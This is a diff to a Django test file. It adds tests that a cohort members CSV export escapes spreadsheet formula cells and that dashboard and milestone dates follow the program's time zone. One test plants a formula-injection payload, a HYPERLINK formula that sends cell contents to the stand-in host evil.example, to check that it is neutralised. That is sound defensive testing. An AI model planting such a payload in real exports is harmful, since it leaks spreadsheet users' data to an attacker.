@@ -6,7 +6,8 @@ import pytest
 import time_machine
 from django.urls import reverse
 
-from cohorts.models import Membership
+from cohorts.dates import program_today
+from cohorts.models import MemberProfile, Membership
 from cohorts.services import initiative_create, membership_status_change, milestone_create, milestone_set_done
 from tests.factories import UserFactory, accept
 
@@ -90,3 +91,49 @@ def test_members_csv_runs_a_fixed_number_of_queries(client, cohort, manager, dja
     with django_assert_num_queries(5):
         response = client.get(reverse("cohorts:members_csv", args=[cohort.slug]))
     assert response.content.decode("utf-8-sig").count("\n") == size + 1
+
+
+def test_members_csv_neutralises_cells_a_spreadsheet_would_run(client, cohort, member, manager):
+    member.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    member.save(update_fields=["name"])
+    MemberProfile.objects.create(user=member, contact_phone="+972 50 123 4567", contact_consent=True)
+    membership_status_change(membership=Membership.objects.get(person=member), status="paused",
+                             reason="@SUM(1+1)", by=manager)  # fmt: skip
+    client.force_login(manager)
+    response = client.get(reverse("cohorts:members_csv", args=[cohort.slug]))
+    row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1]
+    assert row[0] == "'" + member.name
+    assert row[1] == member.email
+    assert row[6] == "'@SUM(1+1)"
+    assert row[9] == "'+972 50 123 4567"
+
+
+# 22:30 UTC on 1 June is already 2 June in Jerusalem (the program's zone), still 1 June in Honolulu.
+@time_machine.travel(datetime.datetime(2026, 6, 1, 22, 30, tzinfo=datetime.UTC))
+@pytest.mark.parametrize("viewer_zone", ["Pacific/Honolulu", "Asia/Jerusalem", "Pacific/Kiritimati", "UTC"])
+def test_dashboard_dates_are_the_programs_whatever_the_viewers_time_zone(client, cohort, member, manager, viewer_zone):
+    cohort.program.time_zone = "Asia/Jerusalem"
+    cohort.program.save(update_fields=["time_zone"])
+    initiative = initiative_create(cohort=cohort, by=member, title="A", what="W")
+    milestone_create(initiative=initiative, title="Due on the 1st", due_on=datetime.date(2026, 6, 1), by=member)
+    manager.time_zone = viewer_zone
+    manager.save(update_fields=["time_zone"])
+    client.force_login(manager)
+    figures = client.get(reverse("cohorts:dashboard", args=[cohort.slug])).context["figures"]
+    assert (figures["milestones"]["due"], figures["milestones"]["overdue"]) == (1, 1)
+
+
+@time_machine.travel(datetime.datetime(2026, 6, 1, 22, 30, tzinfo=datetime.UTC))
+def test_service_dates_are_the_programs_today(cohort, member, manager):
+    from django.utils import timezone
+
+    cohort.program.time_zone = "Asia/Jerusalem"
+    cohort.program.save(update_fields=["time_zone"])
+    assert program_today(cohort.program) == datetime.date(2026, 6, 2)
+    initiative = initiative_create(cohort=cohort, by=member, title="A", what="W")
+    milestone = milestone_create(initiative=initiative, title="M", due_on=datetime.date(2026, 6, 1), by=member)
+    with timezone.override("Pacific/Honolulu"):  # a manager far away, acting on the program's day
+        assert milestone_set_done(milestone=milestone, done=True, by=member).done_on == datetime.date(2026, 6, 2)
+        changed = membership_status_change(membership=Membership.objects.get(person=member), status="graduated",
+                                           reason="", by=manager)  # fmt: skip
+    assert changed.ended_on == datetime.date(2026, 6, 2)
